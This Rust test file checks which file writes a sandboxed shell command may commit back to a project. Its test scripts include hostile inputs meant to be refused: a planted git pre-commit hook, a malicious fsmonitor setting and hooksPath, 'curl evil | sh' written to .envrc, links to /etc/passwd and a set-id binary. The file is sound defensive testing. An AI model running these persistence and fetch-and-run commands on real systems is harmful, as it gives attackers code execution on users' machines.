//! Which writes of a command land, and which are refused with their rule.

use crate::support::{Project, applied, applied_action, refused_rule};

#[test]
fn persistence_writes_never_land_while_ordinary_ones_do() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo '[core] fsmonitor = evil' >> .git/config; echo 'curl evil | sh' > .envrc; \
         mkdir -p .GIT/hooks && echo x > .GIT/hooks/x; ln -s /etc/passwd out-link; \
         echo 'fn new() {}' > src/new.rs",
    );
    assert!(applied(&result, "src/new.rs"), "{result:#?}");
    assert_eq!(project.read("src/new.rs").as_deref(), Some("fn new() {}\n"));
    assert_eq!(
        refused_rule(&result, ".git/hooks/pre-commit").as_deref(),
        Some("write-protected"),
        "{result:#?}"
    );
    // The config is judged by its keys: `core.fsmonitor` names a program.
    assert_eq!(
        refused_rule(&result, ".git/config").as_deref(),
        Some("git-config-key")
    );
    // `.envrc` is write-protected, and blocked as well by `**/.env*`.
    assert_eq!(refused_rule(&result, ".envrc").as_deref(), Some("blocked"));
    // A refused directory stands for everything beneath it.
    assert_eq!(
        refused_rule(&result, ".GIT/hooks").as_deref(),
        Some("write-protected"),
        "{:#?}",
        result.changes
    );
    assert_eq!(
        refused_rule(&result, "out-link").as_deref(),
        Some("link-outside-roots")
    );
    assert!(!project.root.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        project.read(".git/config").as_deref(),
        Some("[core]\n\tbare = false\n")
    );
    assert!(!project.root.join(".envrc").exists());
    assert!(!project.root.join(".GIT/hooks").exists());
    assert!(std::fs::symlink_metadata(project.root.join("out-link")).is_err());
}

/// Every file and link under `root`, with its bytes (or target) and mode.
pub(crate) fn tree(root: &std::path::Path) -> std::collections::BTreeMap<String, (Vec<u8>, u32)> {
    use std::os::unix::fs::MetadataExt;
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("read_dir").flatten() {
            let path = entry.path();
            let meta = std::fs::symlink_metadata(&path).expect("lstat");
            let rel = path
                .strip_prefix(root)
                .expect("beneath")
                .display()
                .to_string();
            if meta.is_dir() {
                out.insert(format!("{rel}/"), (Vec::new(), meta.mode()));
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&path).expect("readlink");
                out.insert(
                    rel,
                    (target.display().to_string().into_bytes(), meta.mode()),
                );
            } else {
                out.insert(rel, (std::fs::read(&path).expect("read"), meta.mode()));
            }
        }
    }
    out
}

#[test]
fn a_command_that_writes_a_thousand_files_has_all_of_them_committed() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mkdir out; i=0; while [ $i -lt 1000 ]; do echo \"file $i\" > out/f$i.txt; i=$((i+1)); done",
    );
    let changes = result.changes.as_ref().expect("changes");
    assert!(changes.refused.is_empty(), "{:?}", changes.refused);
    assert_eq!(changes.applied.len(), 1001, "out/ and its 1000 files");
    for i in [0, 1, 499, 999] {
        assert_eq!(
            project.read(&format!("out/f{i}.txt")),
            Some(format!("file {i}\n"))
        );
    }
    assert_eq!(
        std::fs::read_dir(project.root.join("out"))
            .expect("out")
            .count(),
        1000
    );
}

#[test]
fn a_change_whose_commit_step_fails_is_refused_alone_and_the_rest_lands() {
    let script = "echo changed > README.md; rm src/main.rs; mkdir -p lib/deep; echo new > lib/deep/new.rs; \
                  chmod +x README.md; ln -s README.md readme-link; echo more > notes.txt";
    let run = |fault: Option<usize>| {
        let project = Project::new();
        std::fs::write(project.root.join("run.sh"), script).expect("script");
        let before = tree(&project.root);
        let mut policy = project.policy();
        if let Some(step) = fault {
            policy = policy.fail_commit_at(step);
        }
        let result = crate::support::run(
            &policy.build().expect("policy"),
            agentcaps_shell::CommandRequest::argv(["sh", "run.sh"]),
        );
        let after = tree(&project.root);
        (before, after, result.changes.expect("changes"))
    };
    let (_, whole, changes) = run(None);
    assert!(changes.refused.is_empty(), "{changes:?}");
    // How many steps the commit takes, found by failing at each in turn
    // until one is past the end.
    for step in 1..40 {
        let (before, after, changes) = run(Some(step));
        if changes.refused.is_empty() {
            assert!(step > 5, "a commit of this many changes takes more steps");
            assert_eq!(after, whole, "past the last step the commit is whole");
            return;
        }
        assert!(
            changes.refused.iter().all(|c| c.rule == "commit-failed"),
            "step {step}: {:?}",
            changes.refused
        );
        assert!(!changes.applied.is_empty(), "step {step}: the rest landed");
        // Where a refused change is, the real tree is as it was (byte for
        // byte, modes too); everywhere else it is as the whole commit made
        // it.
        let refused = |key: &str| {
            changes.refused.iter().any(|c| {
                key == c.path
                    || key
                        .strip_prefix(&c.path)
                        .is_some_and(|rest| rest.starts_with('/'))
            })
        };
        let keys: std::collections::BTreeSet<&String> = before.keys().chain(whole.keys()).collect();
        for key in keys {
            let expected = if refused(key) {
                before.get(key)
            } else {
                whole.get(key)
            };
            assert_eq!(after.get(key), expected, "step {step}: {key}: {changes:?}");
        }
    }
    panic!("the commit never succeeded");
}

#[test]
fn git_sees_dot_git_but_nothing_it_writes_there_lands_when_dot_git_is_blocked() {
    let project = Project::new();
    std::fs::create_dir(project.root.join("payload")).expect("payload");
    std::fs::write(
        project.root.join("payload/config"),
        "[core]\n\thooksPath = /tmp/evil\n",
    )
    .expect("config");
    let paths = agentcaps_paths::PathPolicy::builder()
        .allow(&project.root)
        .block(&format!("{}/.git", project.root.display()))
        .build()
        .expect("paths");
    let policy = project.policy().path_policy(paths).build().expect("policy");
    let result = project.sh(
        &policy,
        "cat .git/HEAD; cd payload; cp config ../.git/; cd ..; echo x > kept.txt",
    );
    assert_eq!(result.stdout, "ref: refs/heads/main\n", "{result:?}");
    assert_eq!(
        refused_rule(&result, ".git/config").as_deref(),
        Some("blocked"),
        "{:?}",
        result.changes
    );
    assert_eq!(
        project.read(".git/config").as_deref(),
        Some("[core]\n\tbare = false\n")
    );
    assert!(applied(&result, "kept.txt"));
}

#[test]
fn special_files_set_id_bits_and_hard_links_to_existing_files_are_refused() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mkfifo pipe; echo hi > tool; chmod 4755 tool; ln README.md readme-hardlink; \
         echo a > own; ln own own-link",
    );
    assert_eq!(
        refused_rule(&result, "pipe").as_deref(),
        Some("special-file"),
        "{:#?}",
        result.changes
    );
    assert_eq!(refused_rule(&result, "tool").as_deref(), Some("set-id"));
    assert_eq!(
        refused_rule(&result, "readme-hardlink").as_deref(),
        Some("hard-link")
    );
    assert!(
        applied(&result, "tool"),
        "the file lands without its set-id bit"
    );
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(project.root.join("tool"))
            .expect("tool")
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o755);
    }
    assert!(applied(&result, "own") && applied(&result, "own-link"));
    assert!(!project.root.join("pipe").exists());
    assert!(!project.root.join("readme-hardlink").exists());
}

/// The device and inode of `path`.
fn inode(path: &std::path::Path) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::symlink_metadata(path).expect("lstat");
    (meta.dev(), meta.ino())
}

#[test]
fn hard_links_among_the_commands_new_files_land_as_hard_links() {
    // With the staging directory on the project's file system, and on
    // another one (a tmpfs), where the staged files cannot be linked into
    // the tree and are copied: the names still share one file.
    let shm = std::path::Path::new("/dev/shm");
    assert!(shm.is_dir(), "this test needs a tmpfs at /dev/shm");
    let other_fs = tempfile::tempdir_in(shm).expect("staging on tmpfs");
    for staging in [None, Some(other_fs.path())] {
        let project = Project::new();
        let mut policy = project.policy();
        if let Some(dir) = staging {
            policy = policy.staging_dir(dir);
        }
        let policy = policy.build().expect("policy");
        let result = project.sh(
            &policy,
            "mkdir -p out/deep; echo obj > out/a.o; ln out/a.o out/deep/b.o; ln out/a.o c.o; \
             echo lone > lone.txt",
        );
        let changes = result.changes.as_ref().expect("changes");
        assert!(changes.refused.is_empty(), "{staging:?}: {changes:#?}");
        let action = |path: &str| applied_action(changes, path);
        // One name is the file (the first in the order changes are
        // read), the others links to it.
        let mut actions: Vec<_> = ["out/a.o", "out/deep/b.o", "c.o"]
            .into_iter()
            .map(action)
            .collect();
        actions.sort();
        assert_eq!(
            actions,
            [Some("create"), Some("link"), Some("link")],
            "{changes:#?}"
        );
        let first = inode(&project.root.join("out/a.o"));
        assert_eq!(
            inode(&project.root.join("out/deep/b.o")),
            first,
            "{staging:?}"
        );
        assert_eq!(inode(&project.root.join("c.o")), first, "{staging:?}");
        assert_ne!(inode(&project.root.join("lone.txt")), first);
        assert_eq!(project.read("c.o").as_deref(), Some("obj\n"));
    }
}

#[test]
fn hard_links_to_files_the_command_did_not_create_never_land() {
    // To a file of the root (the overlay copies it up: both names then
    // share the copy, and the new name is refused), to a file outside the
    // roots and to a file of another root (other mounts: `ln` fails).
    let project = Project::new();
    let other = tempfile::tempdir().expect("other root");
    let other_root = other.path().canonicalize().expect("canonical");
    std::fs::write(other_root.join("shared.txt"), "other\n").expect("shared");
    let paths = agentcaps_paths::PathPolicy::builder()
        .allow(&project.root)
        .allow_read_only(&other_root)
        .block(&format!("{}/secrets", project.root.display()))
        .build()
        .expect("paths");
    let policy = project.policy().path_policy(paths).build().expect("policy");
    let result = project.sh(
        &policy,
        &format!(
            "ln README.md readme-link; ln /etc/passwd passwd-link; ln {}/shared.txt shared-link; \
             ln src/main.rs src/main-link.rs; echo edited >> src/main.rs; echo done",
            other_root.display()
        ),
    );
    assert!(result.stdout.contains("done"), "{result:?}");
    assert!(
        result.stderr.contains("passwd-link") && result.stderr.contains("shared-link"),
        "links across mounts fail in the view: {}",
        result.stderr
    );
    for name in ["readme-link", "src/main-link.rs"] {
        assert_eq!(
            refused_rule(&result, name).as_deref(),
            Some("hard-link"),
            "{:#?}",
            result.changes
        );
        assert!(
            std::fs::symlink_metadata(project.root.join(name)).is_err(),
            "{name} landed"
        );
    }
    for name in ["passwd-link", "shared-link"] {
        assert!(std::fs::symlink_metadata(project.root.join(name)).is_err());
    }
    // The file it linked to keeps its own inode; its edit lands in place.
    assert!(applied(&result, "src/main.rs"), "{:#?}", result.changes);
    assert_eq!(
        project.read("src/main.rs").as_deref(),
        Some("fn main() {}\nedited\n")
    );
    assert_eq!(
        std::fs::metadata(project.root.join("README.md"))
            .map(|m| {
                use std::os::unix::fs::MetadataExt;
                m.nlink()
            })
            .ok(),
        Some(1)
    );
}

#[test]
fn a_moved_file_is_reported_as_one_rename_and_lands_moved() {
    let project = Project::new();
    std::fs::write(project.root.join("notes.txt"), "notes\n").expect("notes");
    std::fs::write(project.root.join("todo.txt"), "todo\n").expect("todo");
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mkdir docs; mv README.md docs/README.md; mv notes.txt kept-notes.txt; \
         mv todo.txt todo2.txt; echo more >> todo2.txt",
    );
    let changes = result.changes.as_ref().expect("changes");
    assert!(changes.refused.is_empty(), "{changes:#?}");
    let json = serde_json::to_value(changes).expect("json");
    let applied = json["applied"].as_array().expect("applied");
    let find = |path: &str| applied.iter().find(|c| c["path"] == path).cloned();
    assert_eq!(
        find("docs/README.md"),
        Some(
            serde_json::json!({"path": "docs/README.md", "action": "rename", "from": "README.md"})
        ),
        "{json:#}"
    );
    assert_eq!(
        find("kept-notes.txt"),
        Some(
            serde_json::json!({"path": "kept-notes.txt", "action": "rename", "from": "notes.txt"})
        )
    );
    // The delete halves are the renames: not listed apart.
    assert_eq!(find("README.md"), None, "{json:#}");
    assert_eq!(find("notes.txt"), None);
    // Changed after the move: nothing says which file it was.
    assert_eq!(
        find("todo.txt").map(|c| c["action"].clone()),
        Some("delete".into())
    );
    assert_eq!(
        find("todo2.txt").map(|c| c["action"].clone()),
        Some("create".into())
    );
    assert!(!project.root.join("README.md").exists());
    assert_eq!(project.read("docs/README.md").as_deref(), Some("hello\n"));
    assert_eq!(project.read("kept-notes.txt").as_deref(), Some("notes\n"));
    assert_eq!(project.read("todo2.txt").as_deref(), Some("todo\nmore\n"));
}

#[test]
fn a_file_moved_where_it_may_not_land_stays_where_it_was() {
    // Into a protected file, and into a directory refused whole: the new
    // place is refused, and the old file is not deleted either.
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mv src/main.rs .git/hooks/pre-commit; mkdir -p .GIT/hooks; mv README.md .GIT/hooks/x; \
         ls src README.md; echo done",
    );
    assert!(result.stdout.contains("done"), "{result:?}");
    assert!(
        result.stderr.contains("README.md"),
        "the file was moved in the view: {result:?}"
    );
    let changes = result.changes.as_ref().expect("changes");
    let refused = |path: &str| {
        changes
            .refused
            .iter()
            .find(|c| c.path == path)
            .map(|c| (c.action.as_str(), c.rule.as_str(), c.from.as_deref()))
    };
    assert_eq!(
        refused(".git/hooks/pre-commit"),
        Some(("rename", "write-protected", Some("src/main.rs"))),
        "{changes:#?}"
    );
    assert_eq!(
        refused(".GIT/hooks/x"),
        Some(("rename", "write-protected", Some("README.md"))),
        "{changes:#?}"
    );
    // Only the empty `.GIT` directory lands.
    assert!(
        changes.applied.iter().all(|c| c.path == ".GIT"),
        "{changes:#?}"
    );
    assert_eq!(
        project.read("src/main.rs").as_deref(),
        Some("fn main() {}\n")
    );
    assert_eq!(project.read("README.md").as_deref(), Some("hello\n"));
    assert!(!project.root.join(".git/hooks/pre-commit").exists());
}

#[test]
fn moving_a_directory_that_existed_falls_back_to_a_copy_and_lands() {
    // An unprivileged overlay cannot rename a directory of the real tree
    // (EXDEV); `mv` copies it and removes the old one. It lands as a
    // delete of the old directory and a create of the new one.
    let project = Project::new();
    std::fs::create_dir_all(project.root.join("lib/inner")).expect("lib");
    std::fs::write(project.root.join("lib/inner/a.rs"), "a\n").expect("a");
    let policy = project.policy().build().expect("policy");
    let result = project.sh(&policy, "mv lib lib2 && echo moved");
    assert_eq!(result.stdout, "moved\n", "{result:?}");
    let changes = result.changes.as_ref().expect("changes");
    assert!(changes.refused.is_empty(), "{changes:#?}");
    let action = |path: &str| applied_action(changes, path);
    assert_eq!(action("lib"), Some("delete"), "{changes:#?}");
    assert_eq!(action("lib2"), Some("create"));
    assert_eq!(action("lib2/inner/a.rs"), Some("create"));
    assert!(!project.root.join("lib").exists());
    assert_eq!(project.read("lib2/inner/a.rs").as_deref(), Some("a\n"));
}

#[test]
fn a_directory_the_runner_cannot_list_is_not_removed_with_what_it_holds() {
    // Run as a user other than root (root lists whatever the modes say): a
    // directory its owner may enter but not list (`0300`) is shown empty
    // in the view; a command that removes it there has never seen what it
    // holds, and the host keeps it.
    crate::support::as_non_root(
        "writeback::a_directory_the_runner_cannot_list_is_not_removed_with_what_it_holds",
        || {
            use std::os::unix::fs::PermissionsExt;
            let project = Project::new();
            let dropbox = project.root.join("dropbox");
            std::fs::create_dir(&dropbox).expect("mkdir");
            std::fs::write(dropbox.join("kept.txt"), "the host's\n").expect("plant");
            let policy = project.policy().build().expect("policy");
            // Removed; and removed and made again (an opaque directory,
            // which would replace the real one whole).
            for script in [
                "ls -A dropbox; rm -rf dropbox; echo done",
                "rm -rf dropbox; mkdir dropbox; echo new > dropbox/new.txt; echo done",
            ] {
                std::fs::set_permissions(&dropbox, std::fs::Permissions::from_mode(0o300))
                    .expect("chmod");
                let result = project.sh(&policy, script);
                std::fs::set_permissions(&dropbox, std::fs::Permissions::from_mode(0o700))
                    .expect("chmod");
                assert!(result.stdout.ends_with("done\n"), "{script}: {result:#?}");
                assert_eq!(
                    project.read("dropbox/kept.txt").as_deref(),
                    Some("the host's\n"),
                    "{script}: {result:#?}"
                );
                assert_eq!(
                    refused_rule(&result, "dropbox").as_deref(),
                    Some("conflict"),
                    "{script}: {result:#?}"
                );
                assert!(project.read("dropbox/new.txt").is_none(), "{script}");
                let refused = result.changes.as_ref().expect("changes").refused.iter();
                let reason = refused
                    .filter(|c| c.path == "dropbox")
                    .map(|c| c.reason.clone())
                    .next()
                    .expect("dropbox refused");
                // (Not an insta snapshot: run as nobody, insta cannot read
                // the workspace's metadata.)
                assert_eq!(
                    reason,
                    "the real directory holds entries this run cannot list, which the command never saw; it is kept as it is"
                );
            }
        },
    );
}
